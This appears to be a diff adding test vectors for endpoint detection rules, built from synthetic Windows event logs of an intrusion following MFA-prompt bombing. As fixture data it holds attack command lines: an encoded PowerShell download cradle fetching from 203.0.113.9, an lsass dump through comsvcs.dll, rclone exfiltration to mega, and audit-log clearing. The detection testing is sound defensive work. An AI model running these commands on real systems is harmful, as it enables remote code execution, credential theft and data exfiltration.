@@ -1,0 +1,298 @@
+import { A, Drawing, type DrawnRow, H } from '../../support/drawing';
+import type { Vectors } from './vector';
+
+const home = (phase: number): Drawing => new Drawing(phase).baseline('cfo', H);
+const bombed = (phase: number): Drawing => home(phase).prompts('cfo 09:00 +10s d d d d d A', A);
+
+const WINDOWS: Partial<DrawnRow> = { log: 'windows.event', host: 'WS01.firm.example' };
+
+/** `n` events of a Windows host at even times. */
+function windows(
+  d: Drawing,
+  clock: string,
+  operation: string,
+  more: Partial<DrawnRow>,
+  n = 1,
+  gapMs = 0,
+): Drawing {
+  for (let i = 0; i < n; i++)
+    d.add({ time: d.at(clock) + i * gapMs, kind: 'other', user: 'cfo', operation, ...WINDOWS, ...more });
+  return d;
+}
+const failed = (d: Drawing, n: number, ip: string, gapMs = 60_000, more: Partial<DrawnRow> = {}): Drawing =>
+  windows(
+    d,
+    '08:40',
+    '4625 Logon failed',
+    { kind: 'logon', ip, logonType: '3', outcome: 'failure', code: '0xc000006a', ...more },
+    n,
+    gapMs,
+  );
+const logon = (d: Drawing, clock: string, ip: string, more: Partial<DrawnRow> = {}): Drawing =>
+  windows(d, clock, '4624 Logon', { kind: 'logon', ip, logonType: '10', ...more });
+const program = (
+  d: Drawing,
+  clock: string,
+  path: string,
+  line: string,
+  more: Partial<DrawnRow> = {},
+): Drawing =>
+  windows(d, clock, '4688 Process created', {
+    kind: 'process',
+    target: path,
+    parameters: { CommandLine: line },
+    ...more,
+  });
+const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
+const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+const encoded = `powershell.exe -nop -w hidden -enc ${utf16("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')")}`;
+const RUNDLL = 'C:\\Windows\\System32\\rundll32.exe';
+const RCLONE = 'C:\\Users\\cfo\\Downloads\\rclone.exe';
+const task = (d: Drawing, content: string, more: Partial<DrawnRow> = {}): Drawing =>
+  windows(d, '09:20', '4698 Scheduled task created', {
+    target: '\\Updater',
+    parameters: { TaskContent: content },
+    ...more,
+  });
+const SID = 'S-1-5-21-1-2-3-1107';
+const madeAdmin = (d: Drawing, group: string, at = '09:21', by = 'cfo'): Drawing =>
+  windows(
+    windows(d, '09:20', '4720 User account created', {
+      kind: 'directory',
+      target: 'support1',
+      parameters: { TargetSid: SID },
+    }),
+    at,
+    '4732 Member added to a local group',
+    {
+      kind: 'directory',
+      user: by,
+      target: 'Administrators',
+      parameters: { MemberSid: SID, TargetSid: group },
+    },
+  );
+
+/** Rules on Windows hosts. */
+export const endpoint: Record<string, Vectors> = {
+  'windows-guessing': {
+    must: [
+      {
+        name: 'ten in exactly ten minutes, by whoever then prompts',
+        draw: (p) => failed(bombed(p), 10, A.ip, 66_666),
+        count: 10,
+        findings: 1,
+        severity: 'medium',
+      },
+      { name: 'nobody got in', draw: (p) => failed(home(p), 12, A.ip), count: 12, severity: 'low' },
+    ],
+    not: [
+      { name: 'nine', draw: (p) => failed(bombed(p), 9, A.ip) },
+      { name: 'over more than ten minutes', draw: (p) => failed(bombed(p), 10, A.ip, 66_667) },
+      { name: 'an address inside', draw: (p) => failed(home(p), 40, '10.1.2.3') },
+      { name: 'the user’s own address', draw: (p) => failed(home(p), 40, H.ip) },
+      {
+        name: 'another failure than a wrong password',
+        draw: (p) => failed(home(p), 40, A.ip, 1_000, { code: '0xc0000072' }),
+      },
+      {
+        name: 'a machine account',
+        draw: (p) => failed(home(p), 40, A.ip, 1_000, { user: 'ws01$', userType: 'system' }),
+      },
+    ],
+  },
+  'windows-entry': {
+    must: [
+      {
+        name: 'remote desktop from the attacker’s address',
+        draw: (p) => logon(bombed(p), '09:15', A.ip),
+        count: 1,
+        findings: 1,
+        severity: 'high',
+      },
+      {
+        name: 'as Defender tells it',
+        draw: (p) =>
+          windows(bombed(p), '09:15', 'LogonSuccess', {
+            log: 'defender.device-logon',
+            kind: 'logon',
+            ip: A.ip,
+            logonType: 'RemoteInteractive',
+          }),
+        severity: 'high',
+      },
+      {
+        name: 'from another public address, after the access',
+        draw: (p) => logon(bombed(p), '09:15', '192.0.2.77', { logonType: '3' }),
+        severity: 'medium',
+      },
+      { name: 'nobody got in', draw: (p) => logon(home(p), '09:15', '192.0.2.77'), severity: 'low' },
+      {
+        name: 'explicit credentials used by a shell, after the access',
+        draw: (p) =>
+          windows(bombed(p), '09:15', '4648 Logon with explicit credentials', {
+            kind: 'logon',
+            parameters: { ProcessName: 'C:\\Windows\\System32\\cmd.exe' },
+          }),
+        severity: 'medium',
+      },
+    ],
+    not: [
+      { name: 'at the keyboard', draw: (p) => logon(bombed(p), '09:15', A.ip, { logonType: '2' }) },
+      { name: 'an address inside', draw: (p) => logon(bombed(p), '09:15', '172.16.4.5') },
+      { name: 'from home', draw: (p) => logon(bombed(p), '09:15', H.ip) },
+      { name: 'a logon that failed', draw: (p) => logon(bombed(p), '09:15', A.ip, { outcome: 'failure' }) },
+      {
+        name: 'a machine account',
+        draw: (p) => logon(home(p), '09:15', A.ip, { user: 'ws01$', userType: 'system' }),
+      },
+      {
+        name: 'explicit credentials, nobody got in',
+        draw: (p) =>
+          windows(home(p), '09:15', '4648 Logon with explicit credentials', {
+            kind: 'logon',
+            parameters: { ProcessName: 'C:\\Windows\\System32\\cmd.exe' },
+          }),
+      },
+      {
+        name: 'explicit credentials of the logon screen',
+        draw: (p) =>
+          windows(bombed(p), '09:15', '4648 Logon with explicit credentials', {
+            kind: 'logon',
+            parameters: { ProcessName: 'C:\\Windows\\System32\\winlogon.exe' },
+          }),
+      },
+    ],
+  },
+  'windows-persistence': {
+    must: [
+      {
+        name: 'an encoded command on the host the intruder logged on to',
+        draw: (p) => program(logon(bombed(p), '09:15', A.ip), '09:20', POWERSHELL, encoded),
+        findings: 1,
+        severity: 'high',
+      },
+      {
+        name: 'an encoded command on a host nobody was seen to enter',
+        draw: (p) => program(bombed(p), '09:20', POWERSHELL, encoded),
+        severity: 'medium',
+      },
+      { name: 'nobody got in', draw: (p) => program(home(p), '09:20', POWERSHELL, encoded), severity: 'low' },
+      {
+        name: 'a task out of a folder anybody may write to',
+        draw: (p) => task(home(p), '<Exec><Command>C:\\Users\\Public\\u.exe</Command></Exec>'),
+      },
+      {
+        name: 'a new service',
+        draw: (p) =>
+          windows(home(p), '09:20', '7045 Service installed', {
+            target: 'UpdaterSvc',
+            parameters: { ImagePath: 'cmd.exe /c start x' },
+          }),
+      },
+      { name: 'an account made administrator', draw: (p) => madeAdmin(home(p), 'S-1-5-32-544', '10:20') },
+      { name: 'rundll32 alone', draw: (p) => program(home(p), '09:20', RUNDLL, `"${RUNDLL}"`) },
+      {
+        name: 'lsass dumped',
+        draw: (p) =>
+          program(
+            home(p),
+            '09:20',
+            RUNDLL,
+            'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t.dmp full',
+          ),
+      },
+      { name: 'the audit log cleared', draw: (p) => windows(home(p), '09:20', '1102 Audit log cleared', {}) },
+    ],
+    not: [
+      {
+        name: 'a task out of Program Files',
+        draw: (p) => task(bombed(p), '<Command>C:\\Program Files\\A\\u.exe</Command>'),
+      },
+      {
+        name: 'a task of an updater',
+        draw: (p) =>
+          task(
+            bombed(p),
+            '<Command>%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe</Command>',
+          ),
+      },
+      {
+        name: 'a task of the machine',
+        draw: (p) =>
+          task(bombed(p), '<Command>powershell.exe</Command>', { user: 'SYSTEM', userType: 'system' }),
+      },
+      { name: 'put among other users', draw: (p) => madeAdmin(bombed(p), 'S-1-5-32-545') },
+      {
+        name: 'put among the administrators too late',
+        draw: (p) => madeAdmin(bombed(p), 'S-1-5-32-544', '10:20:01'),
+      },
+      {
+        name: 'put among the administrators by somebody else',
+        draw: (p) => madeAdmin(home(p), 'S-1-5-32-544', '09:21', 'admin7'),
+      },
+      {
+        name: 'PowerShell with a policy',
+        draw: (p) =>
+          program(
+            bombed(p),
+            '09:20',
+            POWERSHELL,
+            'powershell.exe -ep bypass -File C:\\Tools\\aVeryLongScriptNameIndeed.ps1',
+          ),
+      },
+      {
+        name: 'rundll32 with a library',
+        draw: (p) => program(bombed(p), '09:20', RUNDLL, 'rundll32.exe shell32.dll,Control_RunDLL'),
+      },
+      {
+        name: 'the machine’s own command',
+        draw: (p) => program(bombed(p), '09:20', POWERSHELL, encoded, { user: 'ws01$', userType: 'system' }),
+      },
+    ],
+  },
+  'cloud-copy': {
+    must: [
+      {
+        name: 'rclone on the host the intruder logged on to',
+        draw: (p) =>
+          program(logon(bombed(p), '09:15', A.ip), '09:40', RCLONE, 'rclone copy C:\\Shares mega:x'),
+        findings: 1,
+        count: 1,
+        severity: 'high',
+      },
+      { name: 'after the access', draw: (p) => program(bombed(p), '09:40', RCLONE, ''), severity: 'medium' },
+      { name: 'nobody got in', draw: (p) => program(home(p), '09:40', RCLONE, ''), severity: 'low' },
+      {
+        name: 'a connection of it',
+        draw: (p) =>
+          windows(home(p), '09:40', '3 Network connection (Sysmon)', {
+            target: 'g.api.mega.co.nz',
+            parameters: { Image: RCLONE },
+          }),
+      },
+      {
+        name: 'a storage app opened by the intruder',
+        draw: (p) => bombed(p).codes('cfo 09:30 +1m 1 0', A, { app: 'Dropbox Business' }),
+        severity: 'medium',
+      },
+    ],
+    not: [
+      {
+        name: 'another program',
+        draw: (p) => program(bombed(p), '09:40', 'C:\\Tools\\myrclone-notes.exe', 'rclone'),
+      },
+      {
+        name: 'a backup of the machine',
+        draw: (p) => program(bombed(p), '09:40', RCLONE, '', { user: 'SYSTEM', userType: 'system' }),
+      },
+      {
+        name: 'a storage app at the usual desk',
+        draw: (p) => bombed(p).codes('cfo 09:30 +1m 1 0', H, { app: 'Dropbox' }),
+      },
+      {
+        name: 'an app that is no store',
+        draw: (p) => bombed(p).codes('cfo 09:30 +1m 1 0', A, { app: 'Boxed Lunch' }),
+      },
+    ],
+  },
+};
